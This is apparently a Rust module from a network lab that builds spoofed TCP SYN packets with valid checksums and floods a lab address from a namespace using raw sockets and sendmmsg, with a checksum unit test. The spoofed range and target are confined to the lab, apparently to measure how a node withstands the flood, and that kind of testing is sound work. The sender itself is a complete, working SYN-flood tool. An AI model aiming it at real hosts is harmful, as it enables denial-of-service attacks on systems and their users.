//! The SYN flood's sender: spoofed SYNs built here (IPv4 + TCP, checksums computed) and sent
//! with `sendmmsg` on a raw socket from one lab namespace, one thread pinned to one core.
use std::{
    net::Ipv4Addr,
    os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd},
    time::{Duration, Instant},
};

use anyhow::bail;

use crate::lab::util::in_netns;

/// Spoofed sources: 198.18.0.150–198.18.0.249, inside the lab's /24, owned by no lab host
/// (hosts use .1–.30, the VIP .100).
pub const SPOOF_FIRST: [u8; 4] = [198, 18, 0, 150];
pub const SPOOF_COUNT: u32 = 100;
/// Frames per `sendmmsg`.
pub const BATCH: usize = 64;

/// Internet checksum over `b` (one's complement sum of 16-bit words, not yet inverted).
fn sum16(b: &[u8]) -> u32 {
    b.chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)])))
        .sum()
}

fn fold(mut s: u32) -> u16 {
    while s > 0xffff {
        s = (s & 0xffff) + (s >> 16);
    }
    s as u16
}

/// A SYN (IPv4 + TCP with an MSS option, checksums filled in) as it appears on the wire.
pub fn syn_packet(src: Ipv4Addr, sport: u16, dst: Ipv4Addr, dport: u16, seq: u32) -> [u8; 44] {
    let mut p = [0u8; 44];
    p[0] = 0x45;
    p[2..4].copy_from_slice(&44u16.to_be_bytes());
    p[6] = 0x40; // DF
    p[8] = 64;
    p[9] = 6;
    p[12..16].copy_from_slice(&src.octets());
    p[16..20].copy_from_slice(&dst.octets());
    let ipc = !fold(sum16(&p[..20]));
    p[10..12].copy_from_slice(&ipc.to_be_bytes());
    let t = &mut p[20..];
    t[0..2].copy_from_slice(&sport.to_be_bytes());
    t[2..4].copy_from_slice(&dport.to_be_bytes());
    t[4..8].copy_from_slice(&seq.to_be_bytes());
    t[12] = 6 << 4; // data offset: 24 bytes
    t[13] = 0x02; // SYN
    t[14..16].copy_from_slice(&64240u16.to_be_bytes());
    t[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]); // MSS 1460
    let mut pseudo = [0u8; 12];
    pseudo[0..4].copy_from_slice(&src.octets());
    pseudo[4..8].copy_from_slice(&dst.octets());
    pseudo[9] = 6;
    pseudo[10..12].copy_from_slice(&24u16.to_be_bytes());
    let c = !fold(sum16(&pseudo) + sum16(&p[20..]));
    p[36..38].copy_from_slice(&c.to_be_bytes());
    p
}

/// What the sender achieved.
#[derive(Clone, Debug, Default)]
pub struct FloodStats {
    pub sent: u64,
    /// Frames the kernel refused (ENOBUFS …): not sent, not counted in `sent`.
    pub refused: u64,
    pub secs: f64,
    pub cpu: usize,
}

/// Sends spoofed SYNs to `dst:dport` from namespace `ns` for `secs` or `max` frames, whichever
/// comes first, on one thread pinned to the last CPU. Sources: [`SPOOF_FIRST`] + 0..
/// [`SPOOF_COUNT`], random ports and sequence numbers.
pub fn flood(
    ns: &str,
    dst: Ipv4Addr,
    dport: u16,
    secs: u32,
    max: u64,
) -> anyhow::Result<FloodStats> {
    let cpu = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1)
        - 1;
    in_netns(ns, move || {
        // SAFETY: a cpu_set_t zeroed and filled by the libc macros, for this thread (0).
        unsafe {
            let mut set: libc::cpu_set_t = std::mem::zeroed();
            libc::CPU_SET(cpu, &mut set);
            if libc::sched_setaffinity(0, size_of::<libc::cpu_set_t>(), &set) != 0 {
                bail!(
                    "sched_setaffinity cpu {cpu}: {}",
                    std::io::Error::last_os_error()
                );
            }
        }
        // SAFETY: plain socket(2); the fd is owned from here on.
        let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
        if fd < 0 {
            bail!("raw socket in {ns}: {}", std::io::Error::last_os_error());
        }
        // SAFETY: a new fd.
        let sock = unsafe { OwnedFd::from_raw_fd(fd) };
        let to = libc::sockaddr_in {
            sin_family: libc::AF_INET as u16,
            sin_port: 0,
            sin_addr: libc::in_addr {
                s_addr: u32::from_ne_bytes(dst.octets()),
            },
            sin_zero: [0; 8],
        };
        let mut frames = [[0u8; 44]; BATCH];
        let mut rng: u64 = 0x9e37_79b9_7f4a_7c15 ^ u64::from(std::process::id());
        let mut next = || {
            // xorshift64: cheap, good enough to spread tuples.
            rng ^= rng << 13;
            rng ^= rng >> 7;
            rng ^= rng << 17;
            rng
        };
        let base = u32::from_be_bytes(SPOOF_FIRST);
        let t = Instant::now();
        let deadline = Duration::from_secs(u64::from(secs));
        let mut st = FloodStats {
            cpu,
            ..FloodStats::default()
        };
        while st.sent + st.refused < max && t.elapsed() < deadline {
            for f in frames.iter_mut() {
                let r = next();
                let src = Ipv4Addr::from(base + (r % u64::from(SPOOF_COUNT)) as u32);
                let sport = 1024 + ((r >> 16) % 64_512) as u16;
                *f = syn_packet(src, sport, dst, dport, (r >> 32) as u32);
            }
            let mut iov: Vec<libc::iovec> = frames
                .iter_mut()
                .map(|f| libc::iovec {
                    iov_base: f.as_mut_ptr().cast(),
                    iov_len: f.len(),
                })
                .collect();
            let mut msgs: Vec<libc::mmsghdr> = iov
                .iter_mut()
                .map(|v| {
                    // SAFETY: msghdr is plain data; zero is a valid start.
                    let mut h: libc::msghdr = unsafe { std::mem::zeroed() };
                    h.msg_name = (&to as *const libc::sockaddr_in).cast_mut().cast();
                    h.msg_namelen = size_of::<libc::sockaddr_in>() as u32;
                    h.msg_iov = v;
                    h.msg_iovlen = 1;
                    libc::mmsghdr {
                        msg_hdr: h,
                        msg_len: 0,
                    }
                })
                .collect();
            // SAFETY: `msgs` points at `iov`, `frames` and `to`, all alive for the call.
            let n = unsafe { libc::sendmmsg(sock.as_raw_fd(), msgs.as_mut_ptr(), BATCH as u32, 0) };
            if n < 0 {
                let e = std::io::Error::last_os_error();
                match e.raw_os_error() {
                    Some(libc::ENOBUFS) | Some(libc::EAGAIN) => st.refused += BATCH as u64,
                    _ => bail!("sendmmsg in {ns}: {e}"),
                }
            } else {
                st.sent += n as u64;
                st.refused += (BATCH as u64).saturating_sub(n as u64);
            }
        }
        st.secs = t.elapsed().as_secs_f64();
        Ok(st)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The checksums must be right, or the node drops the SYNs and the flood measures
    /// nothing past the router.
    #[test]
    fn syn_checksums_verify() {
        let p = syn_packet(
            Ipv4Addr::new(198, 18, 0, 150),
            40000,
            Ipv4Addr::new(198, 18, 0, 100),
            5000,
            0xdead_beef,
        );
        assert_eq!(fold(sum16(&p[..20])), 0xffff, "IPv4 header");
        let mut pseudo = [0u8; 12];
        pseudo[0..8].copy_from_slice(&p[12..20]);
        pseudo[9] = 6;
        pseudo[10..12].copy_from_slice(&24u16.to_be_bytes());
        assert_eq!(fold(sum16(&pseudo) + sum16(&p[20..])), 0xffff, "TCP");
        assert_eq!(p[33], 0x02, "SYN only");
        assert_eq!(u16::from_be_bytes([p[22], p[23]]), 5000);
    }
}
